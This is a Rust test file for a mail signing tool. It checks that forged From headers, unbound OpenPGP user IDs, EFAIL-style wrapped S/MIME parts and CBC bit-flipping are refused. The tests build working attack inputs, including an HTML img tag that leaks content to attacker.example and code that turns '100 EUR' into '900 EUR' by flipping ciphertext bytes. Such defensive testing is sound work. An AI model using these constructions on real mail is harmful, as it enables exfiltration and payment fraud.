//! What a good signature vouches for (issue 10 items 1–3 and 6), for
//! OpenPGP and S/MIME alike: one author, bound to the signer; the outer
//! From equal to the protected one; no address dressed up as a display
//! name; user IDs without a self-signature bind nothing, and an import
//! that claims someone else's address is refused; an S/MIME signature or
//! encryption nested in other content covers only part of the message;
//! CBC enveloped-data is not integrity-protected.
//!
//! Signers and peers are real: gpg makes Eve's keys, openssl cms makes the
//! CBC messages, mailseal signs as Alice (OpenPGP) and Bob (S/MIME).

mod common;
use common::*;
#[path = "common/smime.rs"]
mod smime_pki;
use smime_pki::*;

use base64::Engine;

/// A signer and a verifier of one technology.
struct Pair {
    name: &'static str,
    signer: Home,
    signer_address: &'static str,
    sign: &'static [&'static str],
    verifier: Home,
}

fn pairs() -> Vec<Pair> {
    let (alice, bob) = alice_and_bob();
    vec![
        Pair {
            name: "OpenPGP",
            signer: alice,
            signer_address: "alice@example.org",
            sign: &["sign", "--openpgp", "--from", "alice@example.org"],
            verifier: bob,
        },
        Pair {
            name: "S/MIME",
            signer: home_with(&["bob"]),
            signer_address: "bob@example.net",
            sign: &["sign", "--smime", "--from", "bob@example.net"],
            verifier: home_with(&["erin"]),
        },
    ]
}

fn message(from_lines: &str) -> Vec<u8> {
    format!("{from_lines}To: erin@example.net\nSubject: payment\nDate: Mon, 23 Nov 2026 10:00:00 +0000\n\nPlease pay 100 EUR.\n").into_bytes()
}

fn json(run: &Run) -> serde_json::Value {
    serde_json::from_slice(&run.stdout).unwrap_or_else(|e| panic!("{e}: {}", run.stdout_text()))
}

#[test]
fn one_author_bound_to_the_signer_or_exit_1() {
    for pair in pairs() {
        let me = pair.signer_address;
        let good = pair
            .signer
            .run(pair.sign, &message(&format!("From: {me}\n")))
            .ok()
            .stdout;
        pair.verifier.run(&["verify"], &good).ok();
        for (from_lines, why) in [
            (
                format!("From: {me}\nFrom: boss@example.org\n"),
                "From fields; a reader may be shown any of them",
            ),
            (format!("From: {me}, boss@example.org\n"), "2 entries"),
            (
                format!("From: boss@example.org <{me}>\n"),
                "From field shows the address boss@example.org, but the real address is",
            ),
            (
                format!("From: boss@example.org\nSender: {me}\n"),
                "signed by the sender, not the author",
            ),
        ] {
            let signed = pair
                .signer
                .run(pair.sign, &message(&from_lines))
                .ok()
                .stdout;
            let run = pair.verifier.run(&["verify"], &signed).expect_code(1);
            assert!(
                run.stderr.contains(why),
                "{} {from_lines:?}: {}",
                pair.name,
                run.stderr
            );
            let report = json(
                &pair
                    .verifier
                    .run(&["--json", "verify"], &signed)
                    .expect_code(1),
            );
            let signature = &report["signatures"][0];
            assert_eq!(signature["status"], "bad", "{} {report}", pair.name);
            let reason = signature["reason"].as_str().unwrap();
            assert!(reason.contains(why), "{} {reason}", pair.name);
            if why.contains("sender") {
                assert!(reason.contains(me) && reason.contains("boss@example.org"));
            }
        }
    }
}

/// `signed` with its first (outer) `From:` field replaced.
fn replace_outer_from(signed: &[u8], from: &str) -> Vec<u8> {
    let text = String::from_utf8(signed.to_vec()).unwrap();
    let start = text.find("From: ").expect("a From field");
    let end = start + text[start..].find("\r\n").unwrap();
    format!("{}From: {from}{}", &text[..start], &text[end..]).into_bytes()
}

#[test]
fn outer_from_must_equal_the_protected_from() {
    for pair in pairs() {
        let me = pair.signer_address;
        let signed = pair
            .signer
            .run(pair.sign, &message(&format!("From: {me}\n")))
            .ok()
            .stdout;
        let text = String::from_utf8_lossy(&signed);
        assert_eq!(text.matches(&format!("From: {me}")).count(), 2, "{text}");
        let spoofed = replace_outer_from(&signed, "boss@example.org");
        let run = pair.verifier.run(&["verify"], &spoofed).expect_code(1);
        assert!(
            run.stderr
                .contains("the outer From (boss@example.org) differs from the protected From"),
            "{}: {}",
            pair.name,
            run.stderr
        );
    }
    // Signed and encrypted (S/MIME): decrypt's report says the same, and
    // decrypt exits 1.
    let bob = home_with(&["bob"]);
    let erin = home_with(&["erin"]);
    let sealed = bob
        .run(
            &["encrypt", "--smime", "--sign", "-r", "erin@example.net"],
            &message("From: bob@example.net\n"),
        )
        .ok()
        .stdout;
    erin.run(&["decrypt"], &sealed).ok();
    let run = erin
        .run(
            &["decrypt"],
            &replace_outer_from(&sealed, "boss@example.org"),
        )
        .expect_code(1);
    assert!(
        run.stderr.contains("differs from the protected From"),
        "{}",
        run.stderr
    );
    // The same for OpenPGP: the report is BAD.
    let (alice, bob) = alice_and_bob();
    let sealed = alice
        .run(
            &["encrypt", "--openpgp", "--sign", "-r", "bob@example.net"],
            &message("From: alice@example.org\n"),
        )
        .ok()
        .stdout;
    let run = bob.run(
        &["decrypt"],
        &replace_outer_from(&sealed, "boss@example.org"),
    );
    assert!(
        run.stderr.contains("BAD signature")
            && run.stderr.contains("differs from the protected From"),
        "{}",
        run.stderr
    );
}

/// Eve: a gpg key for eve@example.org, and a mailseal home that signs
/// with it.
fn eve() -> (Gpg, Home) {
    let gpg = Gpg::new();
    gpg.generate("eve@example.org", "ed25519", None);
    let home = Home::new();
    let secret = gpg
        .run(&["--export-secret-keys", "eve@example.org"], b"")
        .ok()
        .stdout;
    home.run(&["key", "import"], &secret).ok();
    (gpg, home)
}

/// Eve's signature on a message From Alice.
fn eve_signs_as_alice(eve: &Home) -> Vec<u8> {
    eve.run(
        &["sign", "--openpgp", "--from", "eve@example.org"],
        &message("From: alice@example.org\n"),
    )
    .ok()
    .stdout
}

#[test]
fn a_bare_user_id_packet_binds_nothing() {
    let (gpg, eve) = eve();
    let bob = Home::new();
    bob.import_key("bob");
    let mut cert = gpg.run(&["--export", "eve@example.org"], b"").ok().stdout;
    // A User ID packet (new format, tag 13) without any signature.
    let user_id = b"Alice <alice@example.org>";
    cert.extend_from_slice(&[0xC0 | 13, user_id.len() as u8]);
    cert.extend_from_slice(user_id);
    bob.run(&["cert", "import"], &cert).ok();
    let run = bob
        .run(&["verify"], &eve_signs_as_alice(&eve))
        .expect_code(1);
    assert!(
        run.stderr
            .contains("the signer (eve@example.org) is not the author (From: alice@example.org)"),
        "{}",
        run.stderr
    );
    // `cert list` does not show it as one of Eve's addresses either.
    let listed = bob.run(&["--json", "cert", "list"], b"").ok();
    let listed: serde_json::Value = serde_json::from_slice(&listed.stdout).unwrap();
    let eve_cert = listed
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["fingerprint"] == gpg.fingerprint("eve@example.org").as_str())
        .expect("Eve's certificate is listed");
    assert_eq!(
        eve_cert["user_ids"],
        serde_json::json!(["eve@example.org"]),
        "{eve_cert}"
    );
    assert_eq!(
        eve_cert["unbound_user_ids"],
        serde_json::json!(["Alice <alice@example.org>"]),
        "{eve_cert}"
    );
    let text = bob.run(&["cert", "list"], b"").ok().stdout_text();
    assert!(
        text.contains("(not bound, ignored: Alice <alice@example.org>"),
        "{text}"
    );
}

#[test]
fn an_import_claiming_a_stored_address_is_a_conflict() {
    let (gpg, eve) = eve();
    let bob = Home::new();
    bob.import_key("bob");
    bob.import_cert("alice");
    let alice_fpr = bob.run(&["--json", "cert", "list"], b"").ok().stdout_text();
    let eve_cert = gpg.run(&["--export", "eve@example.org"], b"").ok().stdout;
    bob.run(&["cert", "import"], &eve_cert).ok();
    // Eve adds a self-signed user ID with Alice's address to her own key.
    let eve_fpr = gpg.fingerprint("eve@example.org");
    gpg.run(
        &["--quick-add-uid", &eve_fpr, "Alice <alice@example.org>"],
        b"",
    )
    .ok();
    let update = gpg.run(&["--export", &eve_fpr], b"").ok().stdout;
    let run = bob.run(&["cert", "import"], &update).expect_code(77);
    assert!(
        run.stderr
            .contains(&format!("certificate {eve_fpr} claims alice@example.org")),
        "{}",
        run.stderr
    );
    let listed: serde_json::Value = serde_json::from_str(&alice_fpr).unwrap();
    let alice_fpr = listed[0]["fingerprint"].as_str().unwrap();
    assert!(run.stderr.contains(alice_fpr), "{}", run.stderr);
    // The store was not changed: Eve's signature still does not speak for
    // Alice.
    bob.run(&["verify"], &eve_signs_as_alice(&eve))
        .expect_code(1);
    // A new certificate for a stored address is refused alike.
    let mallory = Gpg::new();
    mallory.generate("alice@example.org", "ed25519", None);
    let claim = mallory
        .run(&["--export", "alice@example.org"], b"")
        .ok()
        .stdout;
    let run = bob.run(&["cert", "import"], &claim).expect_code(77);
    assert!(
        run.stderr.contains("claims alice@example.org"),
        "{}",
        run.stderr
    );
}

/// `entity` (a complete message) as a part: its header fields other than
/// the addressing ones, and its body.
fn as_part(entity: &[u8]) -> String {
    let text = String::from_utf8(entity.to_vec()).unwrap();
    let (head, body) = text.split_once("\r\n\r\n").unwrap();
    let mut fields: Vec<String> = Vec::new();
    for line in head.split("\r\n") {
        match fields.last_mut() {
            Some(last) if line.starts_with([' ', '\t']) => {
                last.push_str("\r\n");
                last.push_str(line);
            }
            _ => fields.push(line.to_string()),
        }
    }
    fields.retain(|f| f.to_ascii_lowercase().starts_with("content-"));
    format!("{}\r\n\r\n{body}", fields.join("\r\n"))
}

/// A multipart/mixed message from Bob to Erin: attacker HTML, `part`, more
/// attacker HTML.
fn wrapped(part: &str) -> Vec<u8> {
    format!(
        "From: bob@example.net\r\nTo: erin@example.net\r\nSubject: payment\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"attacker\"\r\n\r\n--attacker\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/?\r\n--attacker\r\n{part}\r\n--attacker\r\nContent-Type: text/html\r\n\r\n\">Please pay 900 EUR to IBAN XX00.\r\n--attacker--\r\n"
    )
    .into_bytes()
}

#[test]
fn smime_signature_on_part_of_a_message_is_not_a_signed_message() {
    let bob = home_with(&["bob"]);
    let erin = home_with(&["erin"]);
    let signed = bob
        .run(&["sign", "--smime"], &message("From: bob@example.net\n"))
        .ok()
        .stdout;
    let mixed = wrapped(&as_part(&signed));
    let run = erin.run(&["verify"], &mixed).expect_code(1);
    assert!(
        run.stderr.contains("only part of this message is signed"),
        "{}",
        run.stderr
    );
    let report = json(&erin.run(&["--json", "verify"], &mixed).expect_code(1));
    let reason = report["signatures"][0]["reason"].as_str().unwrap();
    assert!(reason.contains("part 2"), "{reason}");
    // The same inside an authenticated encryption: decrypt exits 1.
    let sealed = bob
        .run(
            &["encrypt", "--smime", "--no-sign", "-r", "erin@example.net"],
            &mixed,
        )
        .ok()
        .stdout;
    let run = erin.run(&["decrypt"], &sealed).expect_code(1);
    assert!(
        run.stderr.contains("only part of this message is signed"),
        "{}",
        run.stderr
    );
}

#[test]
fn smime_encrypted_part_inside_other_content_is_never_decrypted_into_it() {
    let bob = home_with(&["bob"]);
    let erin = home_with(&["erin"]);
    let sealed = bob
        .run(
            &["encrypt", "--smime", "--no-sign", "-r", "erin@example.net"],
            &message("From: bob@example.net\n"),
        )
        .ok()
        .stdout;
    erin.run(&["decrypt"], &sealed).ok();
    let out = erin.file("out.eml");
    let run = erin
        .run(
            &["decrypt", "-o", out.to_str().unwrap()],
            &wrapped(&as_part(&sealed)),
        )
        .expect_code(65);
    assert!(
        run.stderr
            .contains("only part 2 of this message is S/MIME-encrypted")
            && run.stderr.contains("EFAIL"),
        "{}",
        run.stderr
    );
    assert!(run.stdout.is_empty() && !out.exists());
}

/// `plain` encrypted to Erin by `openssl cms -encrypt -aes256` (CBC), DER,
/// with byte `at` of the plaintext XORed with `xor` by flipping the
/// ciphertext (or IV) byte before it; as a message from Bob.
fn cbc_to_erin(plain: &[u8], at: Option<(usize, u8)>) -> Vec<u8> {
    let pki = pki();
    let run = openssl_cms(
        &[
            "-encrypt",
            "-aes256",
            "-binary",
            "-outform",
            "DER",
            "-recip",
            &pki.path("erin.pem"),
        ],
        plain,
    );
    assert_openssl_ok(&run);
    let mut der = run.stdout;
    if let Some((at, xor)) = at {
        // AES-256-CBC's OID, then the IV (OCTET STRING of 16), then the
        // primitive [0] encryptedContent.
        let oid = [
            0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x01, 0x2A,
        ];
        let o = der.windows(oid.len()).position(|w| w == oid).unwrap() + oid.len();
        assert_eq!(&der[o..o + 2], &[0x04, 0x10]);
        let iv = o + 2;
        let content = iv + 16;
        assert_eq!(der[content], 0x80, "definite-length encryptedContent");
        let header = match der[content + 1] {
            n if n < 0x80 => 2,
            n => 2 + (n & 0x7f) as usize,
        };
        let ciphertext = content + header;
        let target = if at < 16 {
            iv + at
        } else {
            ciphertext + at - 16
        };
        der[target] ^= xor;
    }
    let mut message = b"From: bob@example.net\r\nTo: erin@example.net\r\nSubject: invoice\r\nMIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n".to_vec();
    let encoded = base64::engine::general_purpose::STANDARD.encode(&der);
    for line in encoded.as_bytes().chunks(76) {
        message.extend_from_slice(line);
        message.extend_from_slice(b"\r\n");
    }
    message
}

#[test]
fn cbc_is_not_integrity_protected_and_a_flip_is_not_released() {
    let erin = home_with(&["erin"]);
    let plain = crlf(b"From: bob@example.net\nTo: erin@example.net\nSubject: invoice\n\nDear Erin, as agreed on the phone last week, please transfer\nthe following amount to our account: 100 EUR. Thank you.\n");
    let at = String::from_utf8_lossy(&plain).find("100 EUR").unwrap();
    let flipped = cbc_to_erin(&plain, Some((at, b'1' ^ b'9')));
    let out = erin.file("out.eml");
    let out_arg = out.to_str().unwrap();
    for sealed in [cbc_to_erin(&plain, None), flipped.clone()] {
        let run = erin
            .run(&["decrypt", "-o", out_arg], &sealed)
            .expect_code(77);
        assert!(
            run.stderr.contains("not integrity-protected"),
            "{}",
            run.stderr
        );
        assert!(!out.exists() && run.stdout.is_empty());
    }
    // Asked for explicitly, the (modified) content is released, labelled.
    let run = erin
        .run(&["decrypt", "--allow-unauthenticated"], &flipped)
        .ok();
    assert!(
        run.stdout_text().contains("900 EUR"),
        "{}",
        run.stdout_text()
    );
    assert!(
        run.stderr.contains("not integrity-protected"),
        "{}",
        run.stderr
    );
    erin.run(
        &[
            "--json",
            "decrypt",
            "--allow-unauthenticated",
            "-o",
            out_arg,
        ],
        &flipped,
    )
    .ok();
    let report = json(
        &erin
            .run(
                &[
                    "--json",
                    "decrypt",
                    "--allow-unauthenticated",
                    "-o",
                    out_arg,
                ],
                &flipped,
            )
            .ok(),
    );
    assert_eq!(report["protection"], "not integrity-protected", "{report}");
}

#[test]
fn cbc_flip_that_breaks_the_signed_header_is_no_unsigned_message() {
    let erin = home_with(&["erin"]);
    let signed = openssl_signed(
        "bob",
        &crlf(b"From: bob@example.net\nTo: erin@example.net\nSubject: invoice\n\nPlease pay 100 EUR.\n"),
        &[],
    );
    let signed = crlf(&signed);
    // Untouched, signed CBC opens with the signature reported.
    let run = erin.run(&["decrypt"], &cbc_to_erin(&signed, None)).ok();
    assert!(
        run.stderr.contains("Good signature from bob@example.net"),
        "{}",
        run.stderr
    );
    // A flip in "multipart/signed" garbles the block before it and breaks
    // the header: an error, never "not signed".
    let at = String::from_utf8_lossy(&signed)
        .find("multipart/signed")
        .unwrap()
        + 12;
    let run = erin.run(&["decrypt"], &cbc_to_erin(&signed, Some((at, 0x01))));
    assert!(
        run.code == 65 || run.code == 77,
        "exit {}: {}",
        run.code,
        run.stderr
    );
    assert!(run.stdout.is_empty(), "{}", run.stdout_text());
    assert!(!run.stderr.contains("not signed"), "{}", run.stderr);
}
